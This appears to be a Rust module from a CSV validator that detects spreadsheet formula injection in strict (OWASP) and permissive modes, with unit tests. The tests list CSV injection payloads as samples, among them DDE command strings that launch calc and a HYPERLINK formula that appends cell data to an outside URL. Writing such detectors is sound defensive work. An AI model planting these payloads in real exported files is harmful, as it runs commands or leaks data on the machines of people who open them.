//! CSV_INJECTION: a text cell a spreadsheet would run as a formula when the
//! file is opened. The policy's `[injection] mode` says how sure that must be:
//!
//! - `strict`, OWASP's rule: the cell starts with `=`, `+`, `-`, `@`, tab or CR.
//! - `formula`: after leading whitespace, `=` always; `+`, `-` and `@` only
//!   when what follows can evaluate to something other than the text: a
//!   function call (`@SUM(`, `-HYPERLINK(`), a DDE link (`+cmd|' /C calc'!A0`),
//!   or an expression of numbers and cell references (`-A1`, `+1+1`,
//!   `-2+3`). "@brand thanks", "- item" and "--- Original Message ---" pass:
//!   support tweets and e-mails start like that (docs/policy.md measures it).
//!
//! In columns the policy declares numeric or phone, a value made only of
//! number/phone characters is data (`-12.5`, `+1 (555) 010-0199`) in either
//! mode; `=` and `@` are never data.

use super::{Cell, Kind};
use crate::policy::InjectionMode;

/// Whether this cell makes the row CSV_INJECTION: asked of every cell by
/// `check_cells` (rules/mod.rs), and to point reports at it. `json` when
/// its name is a JSON key.
pub fn offends(c: &Cell, mode: InjectionMode, json: bool) -> bool {
    // An exempt number or phone is let through before the full formula test:
    // in a CRM export every phone starts with `+` and reads as an expression
    // (`+1 (555) 010-0199`), so testing it first ran that parse on every row.
    (c.kind == Kind::Text
        && starts_like_formula(c.bytes, mode)
        && !(c.injection_exempt && is_number_or_phone(c.bytes))
        && is_formula(c.bytes, mode))
        || (json && is_formula(c.name.as_bytes(), mode))
}

/// The first byte [`is_formula`] needs under `mode`: false means it is false.
fn starts_like_formula(value: &[u8], mode: InjectionMode) -> bool {
    match mode {
        InjectionMode::Strict => matches!(
            value.first(),
            Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
        ),
        InjectionMode::Formula => matches!(
            value.trim_ascii_start().first(),
            Some(b'=' | b'+' | b'-' | b'@')
        ),
    }
}

/// Whether a spreadsheet would read `value` as a formula, under `mode`.
pub fn is_formula(value: &[u8], mode: InjectionMode) -> bool {
    match mode {
        InjectionMode::Strict => starts_like_formula(value, mode),
        InjectionMode::Formula => {
            // Spreadsheets that strip leading whitespace (the reason OWASP
            // lists tab and CR) see what comes after it.
            let v = value.trim_ascii_start();
            match v.split_first() {
                Some((b'=', _)) => true,
                Some((b'+' | b'-' | b'@', rest)) => can_evaluate(rest),
                _ => false,
            }
        }
    }
}

/// What follows a leading `+`, `-` or `@` can evaluate: a DDE link, a
/// function call, or an expression of numbers and cell references.
fn can_evaluate(rest: &[u8]) -> bool {
    rest.contains(&b'|') || has_call(rest) || is_expression(rest)
}

fn is_ident(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'.'
}

/// A name right before `(`: `SUM(`, `_xlfn.CONCAT(`. Not with a space
/// between them, which Excel reads as its intersection operator, not a call,
/// and which human text has all the time: "- call Ada (urgent)".
fn has_call(s: &[u8]) -> bool {
    let mut i = 0;
    while i < s.len() {
        if !(s[i].is_ascii_alphabetic() || s[i] == b'_') || (i > 0 && is_ident(s[i - 1])) {
            i += 1;
            continue;
        }
        let mut j = i + 1;
        while j < s.len() && is_ident(s[j]) {
            j += 1;
        }
        if s.get(j) == Some(&b'(') {
            return true;
        }
        i = j;
    }
    false
}

/// The whole of `s` is an expression of numbers and cell references (`A1`,
/// `$B$2`, `Sheet1!C3`, ranges) with operators and parentheses, holding a
/// reference or an operator between two operands. Words make it text: a
/// spreadsheet reading "- item one" gets at worst `#NAME?`, never a value.
fn is_expression(s: &[u8]) -> bool {
    let (mut reference, mut binary, mut after_operand) = (false, false, false);
    let mut i = 0;
    while i < s.len() {
        let b = s[i];
        match b {
            b' ' | b'\t' => i += 1,
            b'0'..=b'9' | b'.' => {
                i += s[i..]
                    .iter()
                    .take_while(|b| b.is_ascii_digit() || matches!(b, b'.' | b','))
                    .count();
                after_operand = true;
            }
            b'%' if after_operand => i += 1,
            b'+' | b'-' | b'*' | b'/' | b'^' | b'&' | b'<' | b'>' | b'=' | b':' => {
                binary |= after_operand;
                after_operand = false;
                i += 1;
            }
            b'(' => i += 1,
            b')' => {
                after_operand = true;
                i += 1;
            }
            _ => match cell_reference(&s[i..]) {
                Some(n) => {
                    i += n;
                    reference = true;
                    after_operand = true;
                }
                None => return false,
            },
        }
    }
    reference || binary
}

/// The length of a cell reference at the start of `s` (`A1`, `$XFD$1048576`,
/// `Sheet1!B2`), ending at a word boundary.
fn cell_reference(s: &[u8]) -> Option<usize> {
    // A sheet name first, if any.
    let sheet = s.iter().take_while(|&&b| is_ident(b)).count();
    let start = if sheet > 0 && s.get(sheet) == Some(&b'!') {
        sheet + 1
    } else {
        0
    };
    let mut i = start;
    i += usize::from(s.get(i) == Some(&b'$'));
    let letters = s[i..]
        .iter()
        .take_while(|b| b.is_ascii_alphabetic())
        .count();
    i += letters;
    i += usize::from(s.get(i) == Some(&b'$'));
    let digits = s[i..].iter().take_while(|b| b.is_ascii_digit()).count();
    i += digits;
    let bounded = s.get(i).is_none_or(|&b| !is_ident(b));
    ((1..=3).contains(&letters) && (1..=7).contains(&digits) && bounded).then_some(i)
}

fn is_number_or_phone(value: &[u8]) -> bool {
    let v = value.trim_ascii_end();
    v.iter().any(u8::is_ascii_digit)
        && v.iter()
            .all(|b| b.is_ascii_digit() || b" +-().,/xX".contains(b))
}

#[cfg(test)]
mod tests {
    use super::super::testing::*;
    use super::*;

    const FORMULA: InjectionMode = InjectionMode::Formula;
    const STRICT: InjectionMode = InjectionMode::Strict;

    fn flags(mode: InjectionMode, value: &str) -> bool {
        is_formula(value.as_bytes(), mode)
    }

    #[test]
    fn attacks_are_flagged_in_both_modes() {
        for bad in [
            "=1+1",
            "=HYPERLINK(\"http://x?\"&A1,\"click\")",
            "+SUM(A1)",
            "-2+3",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-cmd|' /C calc'!A0",
            "@cmd|' /C calc'!A0",
            "-A1",
            "+$B$2*2",
            "@Sheet1!A1",
            "-IMPORTXML(\"http://x\", \"//a\")",
            "+1-555-0100",
            "\t=1+1",
            "\r=cmd|' /C calc'!A0",
        ] {
            assert!(flags(STRICT, bad), "strict: {bad:?}");
            assert!(flags(FORMULA, bad), "formula: {bad:?}");
        }
        // Past leading spaces, only formula mode looks.
        assert!(flags(FORMULA, "   =cmd|' /C calc'!A0"));
        assert!(!flags(STRICT, "   =cmd|' /C calc'!A0"));
    }

    #[test]
    fn human_text_passes_formula_mode_only() {
        for text in [
            "@brand thanks, sorted now",
            "@AppleSupport iOS11 broke my phone, B2 key too",
            "- item one\n- item two",
            "--- Original Message ---",
            "-----Original Message-----\nFrom: Ada",
            "- Q3 numbers attached",
            "-5",
            "+1 555 0100",
            "-20%",
            "\tindented",
            "\r",
            "-",
            "--",
        ] {
            assert!(!flags(FORMULA, text), "formula: {text:?}");
        }
        for text in ["@brand thanks", "- item", "\tindented"] {
            assert!(flags(STRICT, text), "strict: {text:?}");
        }
        for text in ["1+1", "a=b", "", "mail@example.com", "Ada"] {
            assert!(!flags(STRICT, text) && !flags(FORMULA, text), "{text:?}");
        }
        // A space before = hides it from OWASP's rule, not from a spreadsheet
        // that strips it.
        assert!(!flags(STRICT, " =1"));
    }

    #[test]
    fn expressions_calls_and_references() {
        assert!(has_call(b"x HYPERLINK(1)"));
        assert!(has_call(b"_xlfn.CONCAT(1)"));
        assert!(
            !has_call(b"see attached (v2)"),
            "a space before the parenthesis"
        );
        assert!(!has_call(b"2x(1)"), "not a name");
        assert_eq!(cell_reference(b"A1"), Some(2));
        assert_eq!(cell_reference(b"$XFD$1048576+1"), Some(12));
        assert_eq!(cell_reference(b"Sheet1!B2"), Some(9));
        assert_eq!(cell_reference(b"ABCD1"), None, "four letters");
        assert_eq!(cell_reference(b"A12345678"), None, "eight digits");
        assert_eq!(cell_reference(b"A1x"), None, "inside a word");
        assert!(is_expression(b"(1+2)*3"));
        assert!(is_expression(b"A1:B2"));
        assert!(!is_expression(b"5"), "a number is its own text");
        assert!(!is_expression(b"1 2 3"), "no operator between them");
        assert!(!is_expression(b"1 + one"));
    }

    #[test]
    fn modes_come_from_the_policy() {
        let row = |p: &str, value: &'static str| {
            codes(&verdict_with(&policy(p), &human(&[("Notes", value)])))
        };
        assert_eq!(row("", "@brand thanks"), "");
        assert_eq!(row("[injection]\nmode = \"formula\"", "@brand thanks"), "");
        assert_eq!(
            row("[injection]\nmode = \"strict\"", "@brand thanks"),
            "CSV_INJECTION"
        );
        assert_eq!(row("", "@SUM(1)"), "CSV_INJECTION");
    }

    #[test]
    fn exempt_columns_accept_numbers_and_phones_only() {
        for mode in ["strict", "formula"] {
            let p = policy(&format!("[injection]\nmode = \"{mode}\""));
            let row = |name: &'static str, value: &'static str| {
                codes(&verdict_with(&p, &human(&[(name, value)])))
            };
            assert_eq!(row("Phone", "+1 (555) 010-0199"), "", "{mode}");
            assert_eq!(
                row("amount", "-12.50"),
                "",
                "exempt names match case-insensitively"
            );
            assert_eq!(row("Phone", "+1 555 0100 x12"), "");
            assert_eq!(row("Phone", "=1+1"), "CSV_INJECTION");
            assert_eq!(row("Phone", "-cmd|x"), "CSV_INJECTION");
            assert_eq!(row("Phone", "@SUM(1)"), "CSV_INJECTION");
            assert_eq!(row("Notes", "+1-555-0100"), "CSV_INJECTION", "not declared");
        }
    }

    #[test]
    fn the_first_byte_test_never_passes_a_formula() {
        let bytes = b"=+-@ \t\r1A(|x";
        for a in bytes {
            for b in bytes {
                for c in bytes {
                    let value = [*a, *b, *c];
                    for mode in [FORMULA, STRICT] {
                        if is_formula(&value, mode) {
                            assert!(starts_like_formula(&value, mode), "{value:?}");
                        }
                    }
                }
            }
        }
        assert!(!starts_like_formula(b" x=1", FORMULA));
    }
}
